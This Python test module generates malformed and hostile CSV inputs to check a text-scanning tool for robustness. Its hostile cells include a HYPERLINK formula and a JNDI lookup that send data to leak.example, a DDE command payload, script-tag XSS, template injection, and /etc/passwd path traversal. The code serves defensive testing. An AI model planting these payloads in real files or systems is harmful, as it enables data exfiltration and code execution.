"""Delimited text as it should not be: encodings, NULs, quotes, ragged rows, headers, widths, and hostile cells."""

from __future__ import annotations

import codecs
from collections.abc import Iterator

from tests.badinput import CANARIES, Case, holding, scanned

_LINE = ",".join(CANARIES)
_TABLE = "name,id,email\n" + f"{_LINE}\n" * 20
_HOSTILE = {
    "formula": '=HYPERLINK("http://leak.example/?q="&A1)',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in y %}",
    "rich": "[bold red]x[/] [link=file:///etc/passwd]y[/link]",
    "typst": '#read("/etc/passwd") #import "x.typ"',
    "escape": "\x1b]0;title\x07\x1b[2J\x1b[31m",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "joiners": "a\u200b\u200d\ufeff\u00ad",
    "combining": "e" + "\u0301" * 500,
    "noncharacters": "\ufdd0\ufdef\ufdd1\uffff",
    "astral": "\U0001f642\U0010ffff𠮷",
    "path": "../../../etc/passwd\x00.csv",
    "format": "%s%n%x {0.__class__} ${jndi:ldap://leak.example/a}",
    "line ends": "a\u2028b\u2029c\x85d\x0bd",
    "surrogate": "\\ud800",
    "dots": "İıſKς",
    "zalgo": "".join(chr(0x300 + number % 100) for number in range(2000)),
}
_ENCODINGS = (
    *("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "gb18030", "gbk", "big5"),
    *("shift_jis", "euc-jp", "euc-kr", "windows-1252", "iso-8859-15", "windows-1251", "koi8-r", "cp437", "cp037"),
    *("utf-7", "hz", "iso2022_jp", "cp500", "mac_roman"),
)


def cases(seed: int) -> Iterator[Case]:
    """Every kind; nothing of it is drawn by the seed."""
    yield from _encoded()
    yield from _hostile()
    for name, data in _shaped().items():
        yield scanned("delimited text", name, "t.csv", data)
    for name, data in _large().items():
        yield scanned("large text", name, "t.csv", data, big=True)


def _encoded() -> Iterator[Case]:
    text = _TABLE + "".join(f"Zoë 张伟 {number},{number},x\n" for number in range(20))
    for encoding in _ENCODINGS:
        yield scanned("encodings", encoding, "t.csv", text.encode(encoding, "replace"))
        yield scanned("encodings", f"{encoding}, cut in a character", "t.csv", text.encode(encoding, "replace")[:-3])
    both = _TABLE.encode() + "张伟,1,x\n".encode("gb18030") * 5 + "Zoë,2,y\n".encode("windows-1252") * 5
    marks = {"UTF-8 mark twice": codecs.BOM_UTF8 * 2, "wrong mark": codecs.BOM_UTF16_LE, "mark only": b""}
    yield scanned("encodings", "several in one file", "t.csv", both)
    for name, mark in marks.items():
        yield scanned("encodings", name, "t.csv", (mark + _TABLE.encode()) if mark else codecs.BOM_UTF8)
    for name, piece in {"overlong": b"\xc0\xaf", "surrogates": b"\xed\xa0\x80", "beyond": b"\xf7\xbf\xbf\xbf"}.items():
        yield scanned("encodings", f"UTF-8 {name}", "t.csv", _TABLE.encode() + (piece * 3 + b",1,2\n") * 9)


def _hostile() -> Iterator[Case]:
    for name, text in _HOSTILE.items():
        quoted = '"' + text.replace('"', '""') + '"'
        body = f"name,{quoted},email\n{_LINE}\n{quoted},{quoted},{quoted}\n" + f"{_LINE}\n" * 9
        data = body.encode("utf-8", "surrogatepass")
        yield scanned("hostile cells and names", name, "t.csv", data)
        for arguments in (
            ("scan", "t.csv"),
            ("risk", "t.csv", "--qi", "name,email"),
            ("--lang", "zh", "scan", "t.csv"),
        ):
            yield Case("hostile cells and names", f"{name}: {arguments[0]}", holding("t.csv", data), arguments)


def _shaped() -> dict[str, bytes]:
    quote = '"' + CANARIES[0]
    texts = {
        "blank": " \n\t\n",
        "one byte": "a",
        "header only": "name,id\n",
        "no line end": _TABLE.strip(),
        "old line ends": _TABLE.replace("\n", "\r"),
        "mixed line ends": _TABLE.replace("\n", "\r\n", 7).replace("\n", "\r", 3),
        "NULs": _TABLE.replace("name", "na\0me").replace("Canarybird", "Canary\0bird"),
        "NULs only": "\0" * 5000,
        "controls": _TABLE.replace(" ", "\x01"),
        "no header": f"{_LINE}\n" * 20,
        "headers twice": _TABLE.replace("name,id,email", "name,name,name"),
        "headers empty": _TABLE.replace("name,id,email", ",,"),
        "header repeated below": _TABLE + _TABLE,
        "headers of 10,000 characters": _TABLE.replace("name", "n" * 10_000),
        "ragged": _TABLE + "".join(",".join(CANARIES[:1] * width) + "\n" for width in range(40)),
        "all ragged": "".join(",".join(CANARIES[:1] * (width % 7)) + "\n" for width in range(60)),
        "quote over lines": _TABLE + f'{quote}\nsecond line\nthird",1,2\n' * 5,
        "quote never closed": _TABLE + f"{quote},1,2\n{_LINE}\n" * 50,
        "quotes inside": _TABLE + f'a"{CANARIES[0]}"b,1,2\n' * 5,
        "quotes doubled": _TABLE + f'"a""{CANARIES[0]}""",1,2\n' * 5,
        "quotes and spaces": _TABLE + f' "{CANARIES[0]}" , "1" ,2\n' * 5,
        "backslashes": _TABLE + f'"a\\"{CANARIES[0]}",1,2\n' * 5,
        "delimiter at the end": _TABLE.replace("\n", ",\n"),
        "several delimiters": _TABLE.replace(",", ";", 20).replace(",", "\t", 11),
        "sep line": "sep=;\n" + _TABLE.replace(",", ";"),
        "sep line of nothing": "sep=\n" + _TABLE,
        "comments": "# made by a tool\n# twice\n" + _TABLE,
        "titles above": "Report\n\nof the year\n" + _TABLE,
        "footer": _TABLE + "Total: 20 rows\n",
        "spaces instead of delimiters": _TABLE.replace(",", "   "),
        "only delimiters": ",,,,\n" * 100,
        "only quotes": '"' * 9999,
        "only line ends": "\n" * 100_000,
        "numbers as hashes": "id\n" + "1e999\n-0\n+inf\nNaN\n0x1F\n1_000\n٣٤\n",
        "dates that are none": "day\n" + "2024-02-30\n0000-00-00\n9999-12-31\n31/31/31\n",
        "leading zeros": "id,n\n" + "007,1\n0123456789012345678901234567890,2\n" * 9,
        "markup": f"<html><table><tr><td>{CANARIES[0]}</td></tr></table></html>\n" * 9,
        "a program": f"import os\nos.system('{CANARIES[0]}')\n" * 9,
        "JSON named CSV": f'[{{"a": "{CANARIES[0]}"}}]',
        "a million columns of nothing": "," * 999_999 + "\n" + "," * 999_999 + "\n",
    }
    return {name: text.encode() for name, text in texts.items()}


def _large() -> dict[str, bytes]:
    wide = ",".join(f"c{number}" for number in range(100_000))
    return {
        "100,000 columns": f"{wide}\n".encode() + (",".join([CANARIES[0]] * 100_000) + "\n").encode() * 3,
        "a cell of 50 MB": b"name,id\n" + b"Canarybird " * 5_000_000 + b",1\n" + f"{CANARIES[0]},2\n".encode(),
        "a cell of 80 MB": b"name,id\n" + b"x" * 80_000_000 + f",1\n{CANARIES[0]},2\n".encode(),
        "a cell of 50 MB in quotes": b'name,id\n"' + f"{CANARIES[0]}\n".encode() * 2_000_000 + b'",1\n',
        "a line of 70 MB": ",".join([CANARIES[0]] * 2_700_000).encode(),
        "2,000,000 rows of one letter": b"a\n" * 2_000_000,
        "a long header": ("n" * 60_000_000 + ",b\n1,2\n").encode(),
        "a quote in 60 MB": b'a,b\n"' + b"x,y\n" * 15_000_000,
    }
